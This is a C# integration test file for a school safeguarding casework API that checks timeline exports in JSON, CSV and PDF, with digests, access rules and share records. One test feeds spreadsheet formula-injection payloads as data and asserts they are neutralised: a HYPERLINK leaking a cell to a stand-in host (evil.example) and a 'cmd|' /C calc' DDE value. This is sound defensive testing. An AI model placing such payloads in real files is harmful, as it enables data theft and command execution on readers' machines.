using System.Text.RegularExpressions;
using System.IO.Compression;
using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using Casework.Allegations;
using Casework.Auth;
using Casework.Cases;
using CsvHelper;
using PdfSharp.Pdf.IO;
using static Casework.IntegrationTests.Api.AuthorizationKit;
using static Casework.IntegrationTests.Api.CaseClient;

namespace Casework.IntegrationTests.Api;

/// <summary>
/// DOMAIN.md "Exports": a case's timeline as JSON, CSV and PDF, each stating the case, the period, who exported
/// it and when, the number of events and their SHA-256 digest; every export recorded (timeline-shared), except
/// an auditor's, which is only logged.
/// </summary>
[Collection(ApiSuite.Name)]
public sealed class ExportTimelineTests(ApiFixture api)
{
    private const string ToLado = "sharedWith=LADO%2C%20Anyshire&why=Strategy%20meeting%20on%20Monday.";

    private HttpClient Dsl => api.ClientFor(School.Dsl, Role.Dsl.Name());

    private HttpClient Auditor => api.ClientFor(School.Auditor, Role.Auditor.Name());

    private HttpClient Lado => api.ClientFor(School.Lado, Role.LadoLiaison.Name());

    /// <summary>A concern the DSL triaged and referred to children's social care: three events.</summary>
    private async Task<CaseView> WorkedConcern()
    {
        var concern = await Get(Dsl, await ReportConcernAsync(api));
        concern = await Ok(Dsl, concern, CaseActions.Triage, TriageCase.Request.Example);
        return await Ok(Dsl, concern, CaseActions.ReferToSocialCare, ReferToSocialCare.Request.Example with { OccurredAt = HoursAgo(1) });
    }

    private static Task<HttpResponseMessage> Send(HttpClient client, string path, string? accept = null)
    {
        var request = new HttpRequestMessage(HttpMethod.Get, path);
        if (accept is not null)
        {
            request.Headers.TryAddWithoutValidation("Accept", accept);
        }
        return client.SendAsync(request);
    }

    private static async Task<JsonElement> JsonOf(HttpResponseMessage response)
    {
        Assert.True(response.StatusCode == HttpStatusCode.OK, await response.Content.ReadAsStringAsync());
        return await response.Content.ReadFromJsonAsync<JsonElement>();
    }

    private Task<long> SharedCount(Guid caseId) =>
        api.ScalarAsync<long>($"select count(*) from mt_events where stream_id = '{caseId}' and type = 'timeline-shared'");

    private Task<string> LastHow(Guid caseId) =>
        api.ScalarAsync<string>($"select data->>'how' from mt_doc_case_reads where cases @> array['{caseId}'::uuid] order by read_at desc, id desc limit 1");

    [Fact]
    public async Task The_json_timeline_states_the_case_and_its_digest_which_anyone_can_recompute_from_its_entries()
    {
        var concern = await WorkedConcern();

        var timeline = await JsonOf(await Send(Dsl, $"/api/cases/{concern.Id}/timeline"));

        var entries = timeline.GetProperty("entries");
        Assert.Equal(3, entries.GetArrayLength());
        Assert.Equal(3, timeline.GetProperty("count").GetInt32());
        Assert.Equal(IndependentDigest(entries), timeline.GetProperty("digest").GetString());
        Assert.Equal(concern.Id, timeline.GetProperty("case").GetProperty("id").GetGuid());
        Assert.Equal("concern", timeline.GetProperty("case").GetProperty("kind").GetString());
        Assert.Equal(ApiFixture.Tenant, timeline.GetProperty("case").GetProperty("school").GetString());
        // Issue 15 item 8: whom the case is about, by name, and its deadlines, for a reader who sees it in full.
        var about = Assert.Single(timeline.GetProperty("case").GetProperty("about").EnumerateArray());
        Assert.Equal("Ezra Eight", about.GetProperty("name").GetString());
        Assert.Equal("pupil, Year 8", about.GetProperty("is").GetString());
        var deadlines = timeline.GetProperty("case").GetProperty("deadlines").EnumerateArray().ToList();
        Assert.Contains(deadlines, d => d.GetProperty("name").GetString() == "dsl-triage" && d.GetProperty("satisfied").GetBoolean());
        Assert.Contains(deadlines, d => d.GetProperty("name").GetString() == "social-care-acknowledgement" && !d.GetProperty("satisfied").GetBoolean());
        Assert.Equal(School.Dsl, timeline.GetProperty("exportedBy").GetProperty("id").GetGuid());
        Assert.True(timeline.GetProperty("period").GetProperty("from").GetDateTimeOffset() <= timeline.GetProperty("period").GetProperty("to").GetDateTimeOffset());
        // Plain words: people by name from the directory, the reason where there is one.
        Assert.Equal("Tom Teacher", entries[0].GetProperty("who").GetString());
        Assert.StartsWith("Concern reported (cyberbullying) about Ezra Eight (victim)", entries[0].GetProperty("what").GetString());
        Assert.Equal("Dana Lead", entries[1].GetProperty("who").GetString());
        Assert.Equal("DSL", entries[1].GetProperty("role").GetString());
        Assert.Equal(TriageCase.Request.Example.Rationale, entries[1].GetProperty("why").GetString());
        Assert.Equal($"Referred to children's social care (reference {ReferToSocialCare.Request.Example.Reference}): {ReferToSocialCare.Request.Example.Summary}",
            entries[2].GetProperty("what").GetString());
        // Reading is not exporting: nothing is recorded on the case.
        Assert.Equal(0, await SharedCount(concern.Id));
        Assert.Equal("timeline", await LastHow(concern.Id));
    }

    [Fact]
    public async Task A_csv_export_states_the_json_digest_and_is_recorded_on_the_case_with_format_and_digest()
    {
        var concern = await WorkedConcern();
        var json = await JsonOf(await Send(Dsl, $"/api/cases/{concern.Id}/timeline"));

        var response = await Send(Dsl, $"/api/cases/{concern.Id}/timeline?format=csv&{ToLado}");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        var csv = await response.Content.ReadAsByteArrayAsync();
        var comments = Encoding.UTF8.GetString(csv).Split("\r\n").Where(line => line.StartsWith('#')).ToList();
        // Each statement line is a record of two cells, quoted where the value needs it (a comma is not a new cell).
        Assert.Contains($"# sha256,{json.GetProperty("digest").GetString()}", comments);
        Assert.Contains("# count,3", comments);
        Assert.Contains("# about,\"Ezra Eight (pupil, Year 8)\"", comments);
        Assert.Contains(comments, line => line.StartsWith("# deadline,social-care-acknowledgement: ", StringComparison.Ordinal) && line.EndsWith("(open)", StringComparison.Ordinal));
        Assert.Contains("# sharedWith,\"LADO, Anyshire\"", comments);
        using var reader = CsvReader.Create(csv, CsvReaderOptions.Default with { CommentPrefix = '#' });
        var rows = 0;
        while (reader.Read())
        {
            rows++;
        }
        Assert.Equal(ExportTimeline.CsvColumns, reader.Headers);
        Assert.Equal(3, rows);

        var shared = await api.ScalarAsync<string>($"select data::text from mt_events where stream_id = '{concern.Id}' and type = 'timeline-shared'");
        var recorded = JsonDocument.Parse(shared).RootElement;
        // Whom it was given to and why are content of the case: stored sealed, read with the case's key (ADR 28).
        var content = await api.ContentOfAsync(concern.Id);
        Assert.True(ContentCipher.IsSealed(recorded.GetProperty("sharedWith").GetString()));
        Assert.True(ContentCipher.IsSealed(recorded.GetProperty("why").GetString()));
        Assert.Equal("LADO, Anyshire", content.Open(recorded.GetProperty("sharedWith").GetString()!));
        Assert.Equal("Strategy meeting on Monday.", content.Open(recorded.GetProperty("why").GetString()!));
        Assert.Equal("csv", recorded.GetProperty("format").GetString());
        Assert.Equal(json.GetProperty("digest").GetString(), recorded.GetProperty("digest").GetString());
        Assert.Equal(concern.Version + 1, await api.VersionOf(concern));
        Assert.Equal("export", await LastHow(concern.Id));
    }

    /// <summary>
    /// Item 8: a CSV export is data. Whatever starts with = + - @, tab or CR (to whom, why, the exporter's name, a
    /// recorded rationale) comes out escaped with an apostrophe in its own quoted cell, the statement lines included.
    /// </summary>
    [Theory]
    [InlineData("=")]
    [InlineData("+")]
    [InlineData("-")]
    [InlineData("@")]
    [InlineData("\t")]
    [InlineData("\r")]
    public async Task Every_cell_of_a_csv_export_that_a_spreadsheet_would_run_as_a_formula_is_neutralised(string lead)
    {
        const string Formula = "HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";
        var id = await ReportConcernAsync(api);
        var triaged = await Dsl.SendAsync(Triage(id, rationale: lead + Formula));
        Assert.Equal(HttpStatusCode.OK, triaged.StatusCode);
        // Single-line texts cannot hold a tab or CR at all (refused with 400), so they lead with = there.
        var line = lead is "\t" or "\r" ? "=" : lead;
        var exporter = api.ClientNamed(School.Dsl, line + "cmd|' /C calc'!A0", Role.Dsl.Name());

        var response = await Send(exporter, $"/api/cases/{id}/timeline?format=csv" +
            $"&sharedWith={Uri.EscapeDataString(line + "SUM(1,2), Anyshire")}&why={Uri.EscapeDataString(line + Formula)}");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        using var reader = CsvReader.Create(await response.Content.ReadAsByteArrayAsync(), CsvReaderOptions.Default with { HasHeader = false });
        var cells = new List<string>();
        while (reader.Read())
        {
            for (var i = 0; i < reader.FieldCount; i++)
            {
                cells.Add(reader.GetString(i));
            }
        }
        Assert.All(cells, cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), $"a live formula cell: {cell}"));
        Assert.Contains("'" + line + "SUM(1,2), Anyshire", cells);
        Assert.Contains("'" + line + Formula, cells);
        Assert.Contains(cells, cell => cell.StartsWith("'" + line + "cmd|' /C calc'!A0", StringComparison.Ordinal));
        Assert.Contains("'" + lead + Formula, cells);
    }

    [Fact]
    public async Task A_pdf_export_is_a_numbered_pdf_stating_the_digest_of_the_json_entries()
    {
        var concern = await WorkedConcern();
        var note = AddNote.Request.Example with { Text = string.Join(" ", Enumerable.Repeat("The pupil spoke about the messages again and named two more classmates.", 12)) };
        for (var i = 0; i < 12; i++)
        {
            concern = await Ok(Dsl, concern, CaseActions.AddNote, note);
        }
        var json = await JsonOf(await Send(Dsl, $"/api/cases/{concern.Id}/timeline"));
        var digest = IndependentDigest(json.GetProperty("entries"));

        var response = await Send(Dsl, $"/api/cases/{concern.Id}/timeline?format=pdf&{ToLado}");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/pdf", response.Content.Headers.ContentType?.MediaType);
        var pdf = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal("%PDF-"u8.ToArray(), pdf[..5]);
        using var document = PdfReader.Open(new MemoryStream(pdf), PdfDocumentOpenMode.Import);
        Assert.True(document.PageCount >= 2, $"{document.PageCount} page(s)");
        Assert.Contains($"({digest})", PageText(pdf));
        // Issue 15 item 8: a child protection record is marked OFFICIAL-SENSITIVE at the top and foot of every page.
        Assert.Equal(2 * document.PageCount, Regex.Matches(PageText(pdf), @"\(OFFICIAL-SENSITIVE\)").Count);
        for (var page = 1; page <= document.PageCount; page++)
        {
            Assert.Contains($"(Case {concern.Id}    Page {page} of {document.PageCount})", PageText(pdf));
        }
        // Tagged for a screen reader where PDFsharp allows: a structure tree in English, the title a heading, each entry
        // a heading of its own, the rest paragraphs; the markings and page numbers are artifacts, not read as content.
        var objects = Encoding.Latin1.GetString(pdf);
        Assert.Contains("/StructTreeRoot", objects);
        Assert.Contains("/MarkInfo", objects);
        Assert.Matches(@"/Marked\s*true", objects);
        Assert.Matches(@"/Lang\s*\(en-GB\)", objects);
        Assert.Single(Regex.Matches(objects, @"/S\s*/H1\b"));
        Assert.Equal(json.GetProperty("entries").GetArrayLength(), Regex.Matches(objects, @"/S\s*/H2\b").Count);
        Assert.Matches(@"/S\s*/P\b", objects);
        Assert.Equal(document.PageCount, Regex.Matches(PageText(pdf), @"/Artifact\s+BMC").Count);
        // And its deadlines as a DSL says them ("by the end of Friday 4 December 2026"), each met or open.
        Assert.Matches(@"\(DSL triage by the end of [A-Z][a-z]+day \d{1,2} [A-Z][a-z]+ \d{4}: met\)", PageText(pdf));
        Assert.Equal("pdf", await api.ScalarAsync<string>($"select data->>'format' from mt_events where stream_id = '{concern.Id}' and type = 'timeline-shared'"));
        Assert.Equal(digest, await api.ScalarAsync<string>($"select data->>'digest' from mt_events where stream_id = '{concern.Id}' and type = 'timeline-shared'"));
    }

    [Theory]
    [InlineData(null, "text/csv", "text/csv")]
    [InlineData(null, "application/pdf", "application/pdf")]
    [InlineData(null, "text/csv;q=0.5, application/pdf", "application/pdf")]
    [InlineData(null, "*/*", "application/json")]
    [InlineData("json", "application/pdf", "application/json")]
    [InlineData("csv", "application/xml", "text/csv")]
    public async Task The_format_is_the_query_parameter_else_the_accept_header(string? format, string accept, string expected)
    {
        var concern = await ReportConcernAsync(api);

        var response = await Send(Dsl, $"/api/cases/{concern}/timeline?{ToLado}" + (format is null ? "" : $"&format={format}"), accept);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(expected, response.Content.Headers.ContentType?.MediaType);
    }

    [Fact]
    public async Task An_unknown_format_is_a_400_naming_format_and_an_unacceptable_accept_header_a_406()
    {
        var concern = await ReportConcernAsync(api);

        AssertNamesField(await ProblemAsync(await Send(Dsl, $"/api/cases/{concern}/timeline?format=xml"), HttpStatusCode.BadRequest), "format");
        await ProblemAsync(await Send(Dsl, $"/api/cases/{concern}/timeline", "application/xml"), HttpStatusCode.NotAcceptable);
        await ProblemAsync(await Send(Dsl, $"/api/cases/{concern}/timeline", "application/pdf;q=0"), HttpStatusCode.NotAcceptable);

        Assert.Equal(0, await SharedCount(concern));
    }

    [Theory]
    [InlineData("format=csv&why=Strategy%20meeting.", "sharedWith")]
    [InlineData("format=pdf&sharedWith=LADO", "why")]
    [InlineData("format=pdf&sharedWith=%20&why=x", "sharedWith")]
    public async Task An_export_by_someone_who_records_says_to_whom_and_why(string query, string field)
    {
        var concern = await ReportConcernAsync(api);

        AssertNamesField(await ProblemAsync(await Send(Dsl, $"/api/cases/{concern}/timeline?{query}"), HttpStatusCode.BadRequest), field);

        Assert.Equal(0, await SharedCount(concern));
        Assert.Equal(0L, await AccessLogCountAsync(api, concern));
    }

    [Fact]
    public async Task A_json_read_given_to_whom_and_why_is_an_export_recorded_with_its_digest()
    {
        var concern = await ReportConcernAsync(api);

        var export = await JsonOf(await Send(Dsl, $"/api/cases/{concern}/timeline?{ToLado}"));

        Assert.Equal("LADO, Anyshire", export.GetProperty("sharedWith").GetString());
        Assert.Equal(export.GetProperty("digest").GetString(),
            await api.ScalarAsync<string>($"select data->>'digest' from mt_events where stream_id = '{concern}' and type = 'timeline-shared' and data->>'format' = 'json'"));
        // The next read shows the export itself, in words.
        var next = await JsonOf(await Send(Dsl, $"/api/cases/{concern}/timeline"));
        Assert.StartsWith("Timeline shared with LADO, Anyshire as JSON (SHA-256 ", next.GetProperty("entries")[1].GetProperty("what").GetString());
    }

    [Fact]
    public async Task An_auditors_export_is_logged_but_records_nothing_on_the_case()
    {
        var concern = await WorkedConcern();

        var csv = await Send(Auditor, $"/api/cases/{concern.Id}/timeline?format=csv");
        var pdf = await Send(Auditor, $"/api/cases/{concern.Id}/timeline", "application/pdf");

        Assert.Equal(HttpStatusCode.OK, csv.StatusCode);
        Assert.Equal(HttpStatusCode.OK, pdf.StatusCode);
        Assert.Equal(0, await SharedCount(concern.Id));
        Assert.Equal(concern.Version, await api.VersionOf(concern));
        Assert.Equal("export", await LastHow(concern.Id));
    }

    [Fact]
    public async Task A_reporter_cannot_export_the_case_and_nothing_is_recorded()
    {
        var concern = await ReportConcernAsync(api);

        var problem = await ProblemAsync(await Send(api.ClientFor(School.Teacher, Role.Staff.Name()), $"/api/cases/{concern}/timeline?format=pdf&{ToLado}"), HttpStatusCode.Forbidden);

        Assert.Equal("R4", problem.GetProperty("rule").GetString());
        Assert.Equal(0, await SharedCount(concern));
        Assert.Equal(0L, await AccessLogCountAsync(api, concern));
    }

    [Fact]
    public async Task R4_the_lado_liaison_exports_an_allegation_once_it_is_referred_to_them_and_no_other_case()
    {
        var head = api.ClientFor(School.Headteacher, [Role.Headteacher.Name(), Role.Staff.Name()]);
        var allegation = await Get(head, (await Report(api.ClientFor(School.Teacher, Role.Staff.Name()), "/api/allegations",
            ReportAllegation.Request.Example with { SubjectId = School.OtherTeacher, NewSubject = null, ReceivedAt = null, OccurredAt = HoursAgo(3) })).Id);
        var path = $"/api/cases/{allegation.Id}/timeline?format=pdf&{ToLado}";

        await ProblemAsync(await Send(Lado, path), HttpStatusCode.NotFound);
        allegation = await Ok(head, allegation, CaseActions.AssessHarmThreshold, AssessHarmThreshold.Request.Example);
        allegation = await Ok(head, allegation, CaseActions.ReferToLado, ReferAllegationToLado.Request.Example with { OccurredAt = HoursAgo(1) });

        Assert.Equal(HttpStatusCode.OK, (await Send(Lado, path)).StatusCode);
        Assert.Equal(1, await SharedCount(allegation.Id));
        await ProblemAsync(await Send(Lado, $"/api/cases/{await ReportConcernAsync(api)}/timeline?format=pdf&{ToLado}"), HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task An_export_as_at_an_instant_shows_what_was_known_then_and_is_recorded_now()
    {
        var concern = await Get(Dsl, await ReportConcernAsync(api));
        var before = api.Clock.GetUtcNow();
        api.Clock.Advance(TimeSpan.FromMilliseconds(1));
        concern = await Ok(Dsl, concern, CaseActions.Triage, TriageCase.Request.Example);

        var export = await JsonOf(await Send(Dsl, $"/api/cases/{concern.Id}/timeline?asOf={Uri.EscapeDataString(before.ToString("O"))}&{ToLado}"));

        Assert.Equal(1, export.GetProperty("count").GetInt32());
        Assert.Equal(IndependentDigest(export.GetProperty("entries")), export.GetProperty("digest").GetString());
        Assert.Equal(3L, await api.VersionOf(concern));
    }

    [Fact]
    public async Task A_share_recorded_by_hand_still_reads_in_words()
    {
        var concern = await WorkedConcern();
        await Ok(Dsl, concern, CaseActions.ShareTimeline, ShareTimeline.Request.Example);

        var last = (await Timeline(Dsl, concern.Id))[^1];

        Assert.Equal($"Timeline shared with {ShareTimeline.Request.Example.SharedWith}", last.What);
        Assert.Equal(ShareTimeline.Request.Example.Why, last.Why);
    }

    /// <summary>
    /// The digest as a recipient computes it, written here apart from the service's code: SHA-256 of the entries in
    /// RFC 8785 form (members sorted by UTF-16 code units, no whitespace, minimal string escapes, integers as is).
    /// </summary>
    public static string IndependentDigest(JsonElement entries)
    {
        static string Canon(JsonElement e) => e.ValueKind switch
        {
            JsonValueKind.Object => "{" + string.Join(",", e.EnumerateObject().OrderBy(p => p.Name, StringComparer.Ordinal).Select(p => Quote(p.Name) + ":" + Canon(p.Value))) + "}",
            JsonValueKind.Array => "[" + string.Join(",", e.EnumerateArray().Select(Canon)) + "]",
            JsonValueKind.String => Quote(e.GetString()!),
            _ => e.GetRawText(),
        };
        static string Quote(string s)
        {
            var quoted = new StringBuilder("\"");
            foreach (var c in s)
            {
                quoted.Append(c is '"' or '\\' ? "\\" + c
                    : c == '\n' ? "\\n" : c == '\r' ? "\\r" : c == '\t' ? "\\t" : c == '\b' ? "\\b" : c == '\f' ? "\\f"
                    : c < 0x20 ? "\\u" + ((int)c).ToString("x4") : c.ToString());
            }
            return quoted.Append('"').ToString();
        }
        return Convert.ToHexStringLower(SHA256.HashData(Encoding.UTF8.GetBytes(Canon(entries))));
    }

    /// <summary>The text of the PDF's content streams, inflated where compressed (Latin-1, as single-byte text is written).</summary>
    public static string PageText(byte[] pdf)
    {
        var text = new StringBuilder();
        var raw = Encoding.Latin1.GetString(pdf);
        for (var at = raw.IndexOf("stream", StringComparison.Ordinal); at >= 0; at = raw.IndexOf("stream", at + 6, StringComparison.Ordinal))
        {
            var start = at + 6 + (raw[at + 6] == '\r' ? 2 : 1);
            var end = raw.IndexOf("endstream", start, StringComparison.Ordinal);
            if (end < 0 || raw[(at - 3)..at] == "end")
            {
                continue;
            }
            try
            {
                using var inflated = new ZLibStream(new MemoryStream(pdf[start..end]), CompressionMode.Decompress);
                using var output = new MemoryStream();
                inflated.CopyTo(output);
                text.Append(Encoding.Latin1.GetString(output.ToArray()));
            }
            catch (InvalidDataException)
            {
                text.Append(raw[start..end]);
            }
        }
        return text.ToString();
    }
}
